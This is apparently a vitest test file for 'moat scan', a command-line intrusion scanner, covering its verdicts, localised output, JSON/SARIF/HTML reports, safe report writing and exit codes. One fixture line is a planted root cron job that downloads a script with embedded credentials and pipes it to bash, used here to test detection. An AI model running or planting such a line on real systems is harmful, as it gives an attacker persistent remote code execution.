/** `moat scan` as a user runs it. */
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { basename, dirname, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeRoot } from '../../test/throwaway-root.ts';
import { moatBin } from '../../test/live/moat.ts';
import { widthOf } from './wrap.ts';

const job = '*/5 * * * * root curl -fsSL -u lin:hunter22 http://203.0.113.9/i.sh | bash\n';
const env = { ...process.env, LANG: 'C.UTF-8', LC_ALL: '', FORCE_COLOR: '', NO_COLOR: '1' };
function scan(root: string, ...args: string[]): { status: number | null; out: string; err: string } {
  const { status, stdout, stderr } = spawnSync(process.execPath, [moatBin, 'scan', '--no-nice', '--root', root, ...args], { env });
  return { status, out: stdout.toString(), err: stderr.toString() };
}

describe('moat scan', () => {
  it('tells a verdict, why, what to do, and exits by it', () => {
    const root = makeRoot({ '/etc/cron.d/zz': job, ...Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`/opt/t${i}`, { text: 'x', mode: 0o2755 }])) });
    const bad = scan(root, '--verbose');
    expect(bad.status).toBe(1);
    expect(bad.out).toMatch(/^ Compromised/);
    expect(bad.out).toContain('1 certain sign of an intrusion: cron job:');
    expect(bad.out).toContain('… and 4 more of setuid: --all / --json');
    expect(bad.out).toMatch(/What to do next\n\n1\. Keep evidence/);
    expect(bad.out).toMatch(/^ +\d+ ms {2}cron$/m);
    expect(bad.out).toMatch(/^ +\d+ ms {2}walk$/m);
    expect(scan(root, '--all').out).toContain('/opt/t8 runs');
    expect(scan(root, '--only', 'preload')).toMatchObject({ status: 0, out: expect.stringContaining('Clean as far as was looked') as string });
    expect(scan(root, '--only', 'setuid', '--fail-on', 'medium').status).toBe(1);
    expect(scan(root, '--profile', 'quick').out).not.toContain('/opt/t');
  });

  it('in Chinese keeps to the width of the terminal', () => {
    const { out } = scan(makeRoot({ '/etc/cron.d/zz': job }), '--lang', 'zh');
    expect(out).toContain('已被入侵');
    expect(out).toContain('接下来');
    for (const line of out.split('\n')) if (!line.startsWith('      ')) expect(widthOf(line), line).toBeLessThanOrEqual(100);
  });

  it('says in Chinese too what could not be read, and what was asked wrongly', () => {
    const broken = scan(makeRoot({ '/var/lib/rpm/rpmdb.sqlite': 'x'.repeat(9000) }), '--lang', 'zh', '--only', 'package-files');
    expect(broken).toMatchObject({ status: 2, out: expect.stringContaining('软件包数据库损坏或读不懂') as string });
    expect(scan('/nonexistent', '--lang', 'zh').err).toContain('moat: /nonexistent 不是目录，或不存在\n  写磁盘或镜像挂载到的目录');
    expect(scan('/nonexistent', '--lang', 'en').err).toContain('moat: expected a folder, got nothing at /nonexistent\n  name the folder where the disk or image is mounted');
  });

  it('prints findings and nothing else with --json', () => {
    const { out, status } = scan(makeRoot({ '/etc/cron.d/zz': job, '/tmp/\u001b[2J': { text: 'x', mode: 0o2755 } }), '--json', '--only', 'cron,setuid');
    const lines = out.trim().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(status).toBe(1);
    expect(lines).toHaveLength(2);
    expect(lines[0]).toMatchObject({ id: expect.any(String) as string, check: 'cron', kind: 'intrusion', level: 'high', title: expect.any(String) as string, path: '/etc/cron.d/zz', time: expect.stringMatching(/Z$/) as string, refs: expect.arrayContaining(['attack:T1053.003']) as string[] });
    expect(lines[0]!['evidence']).toContainEqual({ what: '/etc/cron.d/zz line 1', value: job.trim().replace('hunter22', '***'), path: '/etc/cron.d/zz', line: 1 });
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/);
  });

  it('writes reports whole, for their owner only, never through a link', () => {
    const root = makeRoot({ '/etc/cron.d/zz': job });
    const folder = makeRoot();
    const html = join(folder, 'r.html');
    const sarif = join(folder, 'r.sarif');
    writeFileSync(html, 'old', { mode: 0o644 });
    expect(scan(root, '--html', html, '--sarif', sarif, '--lang', 'zh').status).toBe(1);
    expect(readFileSync(html, 'utf8')).toMatch(/^<!doctype html>[^]*已被入侵[^]*<\/html>\n$/);
    expect(JSON.parse(readFileSync(sarif, 'utf8'))).toMatchObject({ version: '2.1.0', runs: [{ results: [{ ruleId: 'cron', level: 'error' }] }] });
    expect([statSync(html).mode & 0o777, statSync(sarif).mode & 0o777]).toEqual([0o600, 0o600]);

    const target = join(folder, 'precious');
    symlinkSync(target, join(folder, 'link'));
    mkdirSync(join(folder, 'dir'));
    for (const path of ['link', 'dir', 'none/r.html', '/dev/null']) expect(scan(root, '--html', path.startsWith('/') ? path : join(folder, path))).toMatchObject({ status: 2, out: '' });
    expect(existsSync(target)).toBe(false);
    expect(lstatSync(join(folder, 'link')).isSymbolicLink()).toBe(true);
    expect(readdirSync(folder).filter((name) => name.startsWith('.r'))).toEqual([]);

    expect(scan(root, '--html', '-').out).toMatch(/^<!doctype html>/);
    expect((JSON.parse(scan(root, '--sarif', '-').out) as { version: string }).version).toBe('2.1.0');
    expect(scan(root, '--sarif', '-', '--json')).toMatchObject({ status: 2, err: expect.stringContaining('--json and --sarif -') as string });
  });

  it('leaves out what is older, says so, and does not call it clean', () => {
    const root = makeRoot({ '/etc/cron.d/zz': job });
    utimesSync(join(root, 'etc/cron.d/zz'), 1, 1); // the time of change cannot be set back, so the scan is asked for the future
    const later = new Date(Date.now() + 2 * 86_400_000).toISOString().slice(0, 10);
    const { out, status } = scan(root, '--since', later);
    expect(status).toBe(0);
    expect(out).toContain('Compromised');
    expect(out).toMatch(/One finding from before .* is left out; it is a sign of an\s+intrusion, and the\s+verdict counts it/);
    expect(scan(root, '--since', '2d', '--json').out.trim().split('\n')).toHaveLength(1);
  });

  it.each([['--since', 'yesterday'], ['--since', '2026-02-30'], ['--only', ''], ['--skip', ','], ['--fail-on', 'bad'], ['--profile', 'slow'], ['--max-memory', '3'], ['--only', 'nonsense'], ['--root', '/nonexistent']])('refuses %s %s', (...args) => {
    expect(scan('/', ...args)).toMatchObject({ status: 2, out: '' });
  });

  it('takes a folder as seen from where one stands', () => {
    const root = makeRoot({ '/etc/cron.d/zz': job });
    const { status, stdout } = spawnSync(process.execPath, [moatBin, 'scan', '--no-nice', '--root', basename(root), '--only', 'cron', '--json'], { env, cwd: dirname(root) });
    expect([status, stdout.toString()]).toEqual([1, expect.stringContaining('/etc/cron.d/zz')]);
  });

  it('keeps its exit code when the reader has enough, and says so when there is no room', () => {
    const root = makeRoot(Object.fromEntries(Array.from({ length: 900 }, (_, i) => [`/etc/cron.d/z${i}`, job])));
    const shell = (line: string): { status: number | null; err: string } => {
      const { status, stderr } = spawnSync('bash', ['-c', line, process.execPath, moatBin, root], { env });
      return { status, err: stderr.toString() };
    };
    expect(shell('"$0" "$1" scan --no-nice --root "$2" --only cron --json | head -c 10 >/dev/null; exit "${PIPESTATUS[0]}"')).toEqual({ status: 1, err: '' });
    const full = shell('"$0" "$1" scan --no-nice --root "$2" --only cron --json >/dev/full');
    expect(full).toEqual({ status: 2, err: expect.stringContaining('moat: cannot write standard output: ENOSPC') });
    expect(full.err).not.toContain('    at ');
  });

  it('ends with 130 at Ctrl-C and prints what it found until then', async () => {
    const root = makeRoot({ '/etc/cron.d/zz': job });
    for (let folder = 0; folder < 40; folder++) {
      mkdirSync(join(root, `srv/${folder}`), { recursive: true });
      for (let file = 0; file < 500; file++) symlinkSync('x', join(root, `srv/${folder}/${file}`));
    }
    const child = spawn(process.execPath, [moatBin, 'scan', '--no-nice', '--root', root, '--verbose'], { env });
    let out = '';
    let err = '';
    child.stdout.on('data', (chunk: Buffer) => { out += chunk.toString(); });
    child.stderr.on('data', (chunk: Buffer) => {
      err += chunk.toString();
      // Twice at once, as timeout sends it.
      if (err.includes('every file')) { child.kill('SIGINT'); child.kill('SIGINT'); }
    });
    expect(await new Promise((resolve) => child.once('close', resolve))).toBe(130);
    expect(out).toContain('/etc/cron.d/zz');
    expect(out).toContain('The scan did not come to its end: it was interrupted');
  });
});
